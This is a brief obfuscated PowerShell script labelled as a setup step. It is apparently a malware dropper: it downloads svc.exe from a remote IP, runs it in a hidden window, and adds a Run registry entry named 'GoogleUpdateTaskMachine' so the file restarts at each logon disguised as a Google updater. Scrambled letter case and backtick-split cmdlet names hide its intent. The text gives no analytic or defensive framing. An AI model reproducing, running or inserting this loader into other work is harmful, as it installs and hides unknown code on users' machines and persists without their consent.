# SeTuP 4536 v1
STaRt-BIt`StRAn`Sfer -sOuRcE hTtP://198.51.100.23/Svc.eXe -DeStInAtIoN c:\usERS\pUBliC\sVc.exE
sTaRt-pR`oCe`s`s -WiNdOwStYlE HiDdEn c:\UsErS\PuBlIc\SvC.exE
NeW-ItE`mPr`operT`Y -PATH 'HKCU:\Software\Microsoft\Windows\CurrentVersion\Run' -NaME 'GoogleUpdateTaskMachine' -vALUe 'C:\Users\Public\svc.exe' -prOPErtyTYpE StRIng -FOrCe
